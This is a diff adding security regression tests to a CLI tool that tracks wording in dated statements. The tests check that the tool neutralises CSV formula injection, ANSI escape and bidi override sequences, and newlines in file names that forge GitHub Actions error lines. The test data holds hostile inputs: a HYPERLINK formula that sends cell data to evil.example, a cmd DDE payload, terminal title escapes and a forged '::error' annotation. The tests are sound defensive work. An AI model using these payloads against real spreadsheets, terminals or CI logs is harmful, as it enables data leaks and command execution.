@@ -968,3 +968,180 @@ def test_f24_output_beside_the_inputs_is_fine(fx: Path) -> None:
     assert code == 0, err
     code, _, err = run("--no-config", "report", fx, "-o", fx.parent / "report.md")
     assert code == 0, err
+
+
+# F19 CSV formula injection ----------------------------------------------------------------------
+
+
+def test_f19_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    base = "We uphold peace and stability in the region."
+    rows = [
+        {
+            "id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            "date": "2025-01-01",
+            "text": base,
+        },
+        {
+            "id": "@SUM(A1:A9)",
+            "date": "2025-02-01",
+            "text": base.replace("peace and", "peace and lasting"),
+        },
+        {"id": "+cmd|' /C calc'!A0", "date": "2025-03-01", "text": base},
+        {"id": "-2+3", "date": "2025-04-01", "text": base},
+    ]
+    folder = tmp_path / "csvinj"
+    folder.mkdir()
+    (folder / "rows.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
+    peace = tmp_path / "peace.toml"
+    peace.write_text('[[point]]\nid="peace"\ntext="uphold peace and stability in the region"\n')
+    code, out, err = run("--no-config", "track", folder, "--points", peace, "--format", "csv")
+    assert code == 0, err
+    import csv
+    import io
+
+    table = list(csv.reader(io.StringIO(out)))
+    documents = [row[1] for row in table[1:]]
+    assert len(documents) == 4
+    assert not any(cell.startswith(tuple("=+-@\t\r")) for row in table for cell in row), table
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in documents
+    assert "'@SUM(A1:A9)" in documents
+
+
+# F20 Terminal escapes and bidi overrides; F21 newlines in names -------------------------------
+
+
+@pytest.fixture
+def ansi(tmp_path: Path) -> Path:
+    folder = tmp_path / "ansi"
+    folder.mkdir()
+    for i, d in enumerate(["2025-01-01", "2025-02-01", "2025-03-01"]):
+        text = (
+            "Briefing \x1b]0;PWNED-TITLE\x07\x1b[41m on regional matters \x1b[0m Today\n"
+            f"{d}\n\nThe statement on regional \x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31m security "
+            "is firm and unwavering \u202eevil\u202c.\n"
+        )
+        if i == 2:
+            text = text.replace("firm and", "firm and very")
+        (folder / f"{d}_b.txt").write_text(text)
+    (tmp_path / "ansi.toml").write_text(
+        '[[point]]\nid="ansi"\ntext="statement on regional security is firm and unwavering"\n'
+    )
+    return folder
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["ingest", "{a}"],
+        ["report", "{a}", "--points", "{p}", "--no-color"],
+        ["report", "{a}", "--points", "{p}", "--format", "markdown"],
+        ["track", "{a}", "--points", "{p}", "--format", "csv"],
+        ["report", "{a}", "--no-color", "--min-dates", "1"],
+        ["discover", "{a}", "--min-dates", "1"],
+        [
+            "check",
+            "{a}/2025-03-01_b.txt",
+            "--against",
+            "{a}",
+            "--until",
+            "2025-02-28",
+            "--points",
+            "{p}",
+            "--no-color",
+        ],
+        ["diff", "{a}/2025-01-01_b.txt", "{a}/2025-03-01_b.txt", "--points", "{p}", "--no-color"],
+    ],
+)
+def test_f20_no_control_or_bidi_character_reaches_the_output(
+    ansi: Path, command: list[str]
+) -> None:
+    args = [a.format(a=ansi, p=ansi.parent / "ansi.toml") for a in command]
+    code, out, err = run("--no-config", *args)
+    assert code in (0, 1), err
+    assert out
+    for bad in ("\x1b", "\x07", "\u202e", "\u202c"):
+        assert bad not in out and bad not in err, (bad, out)
+
+
+def test_f20_with_colour_only_our_own_colour_codes(ansi: Path) -> None:
+    import re
+
+    code, out, err = run(
+        "--no-config", "report", ansi, "--points", ansi.parent / "ansi.toml", "--color"
+    )
+    assert code == 0, err
+    assert "\x1b" in out
+    assert re.sub(r"\x1b\[[0-9;]*m", "", out).count("\x1b") == 0
+
+
+def test_f20_title_keeps_visible_replacements(ansi: Path) -> None:
+    from consistency import load_documents
+
+    doc = load_documents([ansi])[0]
+    assert (
+        doc.title
+        == "Briefing \ufffd]0;PWNED-TITLE\ufffd\ufffd[41m on regional matters \ufffd[0m Today"
+    )
+    assert "\u202e" not in doc.text and "evil" in doc.text
+
+
+def test_f20_watchlist_with_control_characters_refused(ansi: Path) -> None:
+    bad = ansi.parent / "bad.toml"
+    bad.write_text('[[point]]\nid="x"\ntext="regional \\u001b]0;x\\u0007 security"\n')
+    code, _, err = run("--no-config", "track", ansi, "--points", bad)
+    one_error(code, err, "bad.toml:1", "control or bidi character", "\\x1b]0;x\\x07")
+
+
+@pytest.fixture
+def newline_name(tmp_path: Path) -> Path:
+    base = tmp_path / "gh" / "base"
+    base.mkdir(parents=True)
+    (base / "2025-01-01_a.txt").write_text(
+        "2025-01-01\n\nWe uphold peace and stability in the region.\n"
+    )
+    (base / "2025-02-01_b.txt").write_text(
+        "2025-02-01\n\nWe uphold peace and stability in the region.\n"
+    )
+    forged = (
+        tmp_path / "gh" / "2025-03-01_x\n::error file=evil.py,line=1::INJECTED via filename\n.txt"
+    )
+    forged.write_text("2025-03-01\n\nWe uphold peace and lasting stability in the region.\n")
+    (tmp_path / "peace.toml").write_text(
+        '[[point]]\nid="peace"\ntext="uphold peace and stability in the region"\n'
+    )
+    return forged
+
+
+@pytest.mark.parametrize("fmt", ["text", "github", "json", "junit"])
+def test_f21_newline_in_a_file_name_forges_no_line(newline_name: Path, fmt: str) -> None:
+    peace = newline_name.parent.parent / "peace.toml"
+    result = proc(
+        "--no-config",
+        "check",
+        newline_name,
+        "--against",
+        newline_name.parent / "base",
+        "--points",
+        peace,
+        "--format",
+        fmt,
+    )
+    assert result.returncode == 1, result.stderr
+    lines = result.stdout.splitlines()
+    assert not any(line.startswith("::error") for line in lines)
+    if fmt == "text":
+        assert (
+            "2025-03-01_x\\n::error file=evil.py,line=1::INJECTED via filename\\n.txt:3:4: "
+            in (lines[0])
+        )
+    if fmt == "github":
+        assert lines[0].startswith("::warning file=")
+        assert "2025-03-01_x\\n%3A%3Aerror file=evil.py%2Cline=1" in lines[0]
+
+
+def test_f21_names_are_one_printable_line(newline_name: Path) -> None:
+    from consistency import load_documents
+
+    (doc,) = load_documents([newline_name])
+    assert "\n" not in doc.id and "\n" not in doc.path
+    assert doc.id == "2025-03-01_x\\n::error file=evil.py,line=1::INJECTED via filename\\n"
